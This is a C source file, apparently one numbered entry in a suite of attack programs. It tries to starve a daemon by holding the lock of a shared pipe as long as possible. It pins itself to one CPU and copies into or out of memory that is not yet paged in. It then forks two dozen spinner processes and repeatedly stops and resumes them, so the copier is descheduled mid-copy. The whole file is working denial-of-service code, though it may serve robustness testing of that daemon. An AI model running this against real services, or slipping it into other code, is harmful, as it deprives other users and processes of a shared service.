/*
 * O11: keeps the lock of a pipe it shares with the daemon for as long as it can. It copies from or
 * to memory that is not there yet, and while it is likely to be in the middle of that, others take
 * the processor away from it.
 */
#include "attack.h"
#include <sched.h>
#include <sys/mman.h>
#include <sys/resource.h>

enum { SIZE = 256 * 1024, SPINNERS = 24, HELD_US = 600 * 1000, FREE_US = 15 * 1000 };

/* The first that it may use. */
static void keep_to_one_processor(void) {
    cpu_set_t set;
    sched_getaffinity(0, sizeof set, &set);
    for (int cpu = 0, found = 0; cpu < CPU_SETSIZE; cpu++) {
        if (found) {
            CPU_CLR(cpu, &set);
        }
        found = found || CPU_ISSET(cpu, &set);
    }
    sched_setaffinity(0, sizeof set, &set);
}

static void *missing(int file) {
    int flags = file < 0 ? MAP_PRIVATE | MAP_ANONYMOUS : MAP_PRIVATE;
    posix_fadvise(file, 0, SIZE, POSIX_FADV_DONTNEED);
    void *memory = mmap(NULL, SIZE, PROT_READ | PROT_WRITE, flags, file, 0);
    madvise(memory, SIZE, MADV_RANDOM);
    return memory;
}

static void copy(int reads, int file) {
    struct sched_param none = {0};
    setpriority(PRIO_PROCESS, 0, 19);
    sched_setscheduler(0, SCHED_IDLE, &none);
    for (;;) {
        void *memory = missing(file);
        ssize_t done;
        if (reads) {
            done = read(STDIN_FILENO, memory, SIZE);
        } else {
            dprintf(STDOUT_FILENO, ".");
            done = write(STDOUT_FILENO, memory, SIZE);
        }
        munmap(memory, SIZE);
        if (done <= 0) {
            _exit(1);
        }
    }
}

int main(int argc, char **argv) {
    int reads = argc > 1 && strcmp(argv[1], "stdin") == 0;
    int file = argc > 2 ? open(argv[2], O_RDONLY) : -1;
    pid_t spinners[SPINNERS];
    say("holding", reads ? "stdin" : "stdout");
    keep_to_one_processor();
    for (int i = 0; i < SPINNERS; i++) {
        spinners[i] = fork();
        while (spinners[i] == 0) {
        }
        kill(spinners[i], SIGSTOP);
    }
    if (fork() == 0) {
        copy(reads, file);
    }
    for (int number = SIGCONT;; number = number == SIGCONT ? SIGSTOP : SIGCONT) {
        usleep(number == SIGCONT ? FREE_US : HELD_US);
        for (int i = 0; i < SPINNERS; i++) {
            kill(spinners[i], number);
        }
    }
}
